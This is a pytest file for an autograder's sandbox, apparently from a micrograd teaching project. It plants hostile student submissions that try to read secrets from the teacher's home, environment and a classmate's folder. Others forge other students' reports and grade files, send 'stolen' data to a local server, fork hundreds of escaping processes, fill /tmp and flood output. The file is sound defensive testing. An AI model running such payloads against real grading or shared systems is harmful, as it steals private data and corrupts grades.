"""Hostile submissions in one class: each is stopped and reported, the others graded unchanged.

One ``grade`` run with the sandbox and one without, on the same class: two
correct submissions graded first (``aa_ada``, ``ab_bob``, who keeps a secret
file), one graded last (``zz_zoe``), and between them a submission per
attack. A hostile submission does its harm when imported and then raises
``HOSTILE: exposed: …`` or ``HOSTILE: blocked: …``, so that its report says
what it managed; what it cannot say (files it wrote, processes it left,
connections it made) is seen from outside. Everything is bounded: 200 forks
that each exit within 20 s, 100 MB of ``/tmp`` (removed afterwards), a
gigabyte printed into the grader's capped buffers, a server on 127.0.0.1
that only counts.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from micrograd.oracle.runner import REFERENCE_PACKAGE
from micrograd.oracle.targets import sandbox
from tests.oracle.helpers import ENGINES, reply_forger

FULL = 26.0
"""The default assignment's points: a correct engine's score."""

SECRET = "teacher-secret-7f3a"
"""Planted in the teacher's home, environment and the sibling's folder."""

_TRY = """
def attempt(action):
    try:
        return "exposed: " + str(action())[:60]
    except BaseException as exc:
        return "blocked: " + type(exc).__name__
"""

CASES: dict[str, str] = {
    "read_sibling": "outcome = attempt(lambda: open({sibling!r}).read())",
    "read_home": "outcome = attempt(lambda: open({home!r}).read())",
    "read_environment": "outcome = attempt(lambda: os.environ['MICROGRAD_HOSTILE_SECRET'])",
    "read_reference": "outcome = attempt(lambda: open({reference!r}).read()[:20])",
    "write_reports": """
def forge():
    with open({out!r} + "/aa_ada.json", "w") as f:
        f.write('{{"forged": true}}')
    return "overwrote aa_ada.json"
outcome = attempt(forge)""",
    "write_outside": """
def scribble(path):
    with open(path, "w") as f:
        f.write("pwned")
    return "wrote " + path
attempt(lambda: scribble({outside!r}))  # in the sandbox: into its private /tmp, seen by no one
outcome = attempt(lambda: scribble(os.path.dirname(__file__) + "/pwned.txt"))""",
    "network": """
import socket
def connect():
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall(b"stolen")
    return "connected"
outcome = attempt(connect)""",
    "fork_many": """
forked, error = 0, ""
for _ in range(200):
    try:
        pid = os.fork()
    except OSError as exc:
        error = type(exc).__name__
        break
    if pid == 0:
        try:
            os.setsid()
            os.execv("/bin/sh", ["sh", "-c", "sleep 20; :", {marker!r}])
        finally:
            os._exit(0)
    forked += 1
outcome = f"forked {{forked}}" + (f" then {{error}}" if error else "")""",
    "fill_tmp": """
folder = {tmp_folder!r}
os.makedirs(folder, exist_ok=True)
written, error = 0, ""
for i in range(100):
    try:
        with open(f"{{folder}}/{{i}}", "wb") as f:
            f.write(b"x" * 2**20)
        written += 1
    except OSError as exc:
        error = type(exc).__name__
        break
outcome = f"wrote {{written}} MB" + (f" then {{error}}" if error else "")""",
    "print_gigabytes": """
for _ in range(1024):
    print("x" * 2**20)
for _ in range(1024):
    os.write(2, b"x" * 2**20)
outcome = "printed 2 GB\"""",
    "forge_results": """
import json
def forge():
    for name in ("forged_by_zz.txt", "grades.csv", "summary.json"):
        with open({out!r} + "/" + name, "w") as f:
            f.write("hostile,26,26,passed")
    return "wrote into the reports folder"
outcome = attempt(forge)
# a reply the grader did not ask for, down the pipe it reads: taken as the load's answer, the
# real one then answers the first request, whose id it does not carry
forged = json.dumps({{"ready": "forged.Value", "output": ""}}).encode()
"""
    + reply_forger("forged").replace("{", "{{").replace("}", "}}"),
}
"""Each attack as code that sets ``outcome``; formatted with the run's paths first."""

EXPECTED = {  # case: (with the sandbox, without it): how its report's error starts
    "read_sibling": ("blocked", "exposed: " + SECRET),
    "read_home": ("blocked", "exposed: " + SECRET),
    "read_environment": ("blocked", "exposed: " + SECRET),
    "read_reference": ("blocked", "exposed"),
    "write_reports": ("blocked", "exposed"),
    "write_outside": ("blocked", "exposed"),
    "network": ("blocked", "exposed: connected"),
}
"""The attacks whose report says what they managed."""


def require_sandbox() -> None:
    """Skip without a working bubblewrap; on CI (``CI`` set), fail instead."""
    why = sandbox.probe()
    if why and os.environ.get("CI"):
        pytest.fail(f"CI must run the hostile corpus in the sandbox, but {why}")
    if why:
        pytest.skip(why)


@dataclass
class Run:
    """One ``grade`` of the class: its reports and what was seen from outside."""

    out: Path
    output: str
    connections: list[bytes]
    lingering: list[int]
    tmp_megabytes: int
    outside_written: bool
    errors: dict[str, str] = field(default_factory=dict)

    def report(self, name: str) -> dict[str, object]:
        """The JSON report of submission ``name``."""
        data: dict[str, object] = json.loads((self.out / f"{name}.json").read_text())
        return data


def _server() -> tuple[socket.socket, list[bytes]]:
    """A server on 127.0.0.1 that records what each connection sends, until closed."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.5)
    received: list[bytes] = []

    def serve() -> None:
        while True:
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            except OSError:  # closed: the run is over
                return
            with conn:
                conn.settimeout(2)
                received.append(conn.recv(100))

    threading.Thread(target=serve, daemon=True).start()
    return listener, received


def _lingering(marker: str) -> list[int]:
    """The processes whose command line holds ``marker``."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def _grade_class(root: Path, *, with_sandbox: bool) -> Run:
    """Write the class, grade it, and gather what happened."""
    token = uuid.uuid4().hex[:12]
    classroom, out, home = root / "class", root / "out", root / "home"
    for folder in (classroom, home):
        folder.mkdir()
    (home / "secret.txt").write_text(SECRET)
    correct = (ENGINES / "correct_closures.py").read_text()
    for name in ("aa_ada", "ab_bob", "zz_zoe"):
        (classroom / name).mkdir()
        (classroom / name / "engine.py").write_text(correct)
    (classroom / "ab_bob" / "secret.txt").write_text(SECRET)
    listener, received = _server()
    tmp_folder = f"/tmp/micrograd-hostile-{token}"
    paths = {
        "sibling": str(classroom / "ab_bob" / "secret.txt"),
        "home": str(home / "secret.txt"),
        "reference": str(Path(REFERENCE_PACKAGE) / "engine.py"),
        "out": str(out),
        "outside": str(root / "pwned.txt"),
        "port": listener.getsockname()[1],
        "marker": f"micrograd-hostile-{token}",
        "tmp_folder": tmp_folder,
    }
    for case, code in CASES.items():
        (classroom / f"h_{case}").mkdir()
        body = f"import os, sys\n{_TRY}\n{code.format(**paths)}\n"
        body += 'raise RuntimeError("HOSTILE: " + outcome)\n'
        if case == "forge_results":  # it loads, as an engine without tanh: its honest score is 25
            body = body.rsplit("raise", 1)[0] + correct.replace("def tanh(", "def _tanh(")
        (classroom / f"h_{case}" / "engine.py").write_text(body)
    env = {**os.environ, "HOME": str(home), "MICROGRAD_HOSTILE_SECRET": SECRET}
    try:
        done = subprocess.run(
            [sys.executable, "-m", "micrograd", "grade", str(classroom), "--out", str(out),
             "--jobs", "1", "--max-examples", "5", "--no-torch",
             "--sandbox" if with_sandbox else "--no-sandbox"],
            capture_output=True, text=True, env=env, timeout=600, check=False,
        )  # fmt: skip
        lingering = _lingering(paths["marker"])
        megabytes = len(list(Path(tmp_folder).glob("*"))) if Path(tmp_folder).is_dir() else 0
    finally:
        listener.close()
        for pid in _lingering(paths["marker"]):
            os.kill(pid, signal.SIGKILL)
        shutil.rmtree(tmp_folder, ignore_errors=True)
    run = Run(
        out,
        done.stdout + done.stderr,
        received,
        lingering,
        megabytes,
        Path(paths["outside"]).exists(),
    )
    for case in CASES:
        error = str(run.report(f"h_{case}").get("error", ""))
        run.errors[case] = error.partition("HOSTILE: ")[2] or error
    return run


@pytest.fixture(scope="module", params=[True, False], ids=["sandbox", "no-sandbox"])
def run(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Run:
    """The class graded with the sandbox (skipped where it cannot run) and without it."""
    if request.param:
        require_sandbox()
    return _grade_class(tmp_path_factory.mktemp("hostile"), with_sandbox=request.param)


def _sandboxed(run: Run) -> bool:
    return "sandbox: bubblewrap" in run.output


class TestTheClassIsGradedUnchanged:
    """Whatever the hostile submissions do, the correct ones keep their full score."""

    def test_every_submission_has_a_report_and_a_row(self, run: Run) -> None:
        """grades.csv has a row per submission; the correct ones score full marks."""
        rows = (run.out / "grades.csv").read_text().splitlines()
        assert len(rows) == 1 + 3 + len(CASES)
        for name in ("aa_ada", "ab_bob", "zz_zoe"):
            row = next(r for r in rows if r.startswith(name + ","))
            assert row.split(",")[1] == f"{FULL:g}", row

    def test_a_report_says_whether_it_was_sandboxed(self, run: Run) -> None:
        """The JSON report, the text header of grade, and every hostile's report agree."""
        for name in ("zz_zoe", *(f"h_{case}" for case in CASES)):
            assert run.report(name)["sandboxed"] is _sandboxed(run)

    def test_a_forged_results_file_or_reply_never_raises_a_score(self, run: Run) -> None:
        """The forger scores at most its honest 25; its forged reply is a protocol error."""
        report = run.report("h_forge_results")
        assert isinstance(report["score"], float)
        assert report["score"] <= FULL - 1
        messages = json.dumps(report["checks"])
        assert "broke the protocol" in messages
        assert "hostile" not in (run.out / "grades.csv").read_text().split("\n", 1)[0]

    def test_printing_gigabytes_is_cut_off(self, run: Run) -> None:
        """Printing is capped, and writing a gigabyte to stderr is stopped by the file limit.

        Python ignores SIGXFSZ, so the write past RLIMIT_FSIZE fails with EFBIG.
        """
        assert "File too large" in run.errors["print_gigabytes"], run.errors["print_gigabytes"]


class TestWithTheSandbox:
    """In bubblewrap, every attack fails; skipped where bwrap cannot run, required on CI."""

    @pytest.mark.parametrize("case", sorted(EXPECTED))
    def test_the_attack_is_blocked(self, run: Run, case: str) -> None:
        """Reading others' files, the environment, writing anywhere, the network: all fail."""
        if not _sandboxed(run):
            pytest.skip("documented by TestWithoutTheSandbox")
        assert run.errors[case].startswith(EXPECTED[case][0]), run.errors[case]
        assert SECRET not in run.errors[case]

    def test_nothing_is_written_outside(self, run: Run) -> None:
        """The sibling's report keeps its score, nothing appears outside, no server hears."""
        if not _sandboxed(run):
            pytest.skip("documented by TestWithoutTheSandbox")
        assert run.report("aa_ada")["score"] == FULL
        assert not run.outside_written
        assert not (run.out / "forged_by_zz.txt").exists()
        assert run.connections == []

    def test_forks_are_bounded_and_none_outlives_the_run(self, run: Run) -> None:
        """The PID namespace dies with the worker; as non-root, RLIMIT_NPROC stops the forks."""
        if not _sandboxed(run):
            pytest.skip("documented by TestWithoutTheSandbox")
        assert run.lingering == []
        if os.getuid() != 0:  # the kernel does not apply RLIMIT_NPROC to root
            assert run.errors["fork_many"].endswith("BlockingIOError"), run.errors["fork_many"]

    def test_tmp_is_a_small_private_tmpfs(self, run: Run) -> None:
        """The sandbox's /tmp is full at 64 MB, and nothing reaches the machine's /tmp."""
        if not _sandboxed(run):
            pytest.skip("documented by TestWithoutTheSandbox")
        limit = sandbox.TMP_BYTES // 2**20
        assert run.errors["fill_tmp"].startswith("wrote "), run.errors["fill_tmp"]
        assert int(run.errors["fill_tmp"].split()[1]) <= limit
        assert run.errors["fill_tmp"].endswith("OSError")
        assert run.tmp_megabytes == 0


class TestWithoutTheSandbox:
    """Without bubblewrap, a submission runs as the teacher: this is what it can reach."""

    @pytest.mark.parametrize("case", sorted(EXPECTED))
    def test_the_attack_succeeds(self, run: Run, case: str) -> None:
        """Others' files, the teacher's home and environment, the reports, the network."""
        if _sandboxed(run):
            pytest.skip("the sandbox blocks it")
        assert run.errors[case].startswith(EXPECTED[case][1]), run.errors[case]

    def test_what_it_leaves_behind(self, run: Run) -> None:
        """A forged sibling report, files outside, a connection, processes, 100 MB of /tmp."""
        if _sandboxed(run):
            pytest.skip("the sandbox blocks it")
        assert "forged" in json.dumps(run.report("aa_ada"))
        assert run.outside_written
        assert (run.out.parent / "class" / "h_write_outside" / "pwned.txt").exists()
        assert (run.out / "forged_by_zz.txt").exists()
        assert run.connections == [b"stolen"]
        assert run.lingering  # setsid() escapes the process group the grader kills
        assert run.errors["fork_many"] == "forked 200"
        assert run.tmp_megabytes == 100
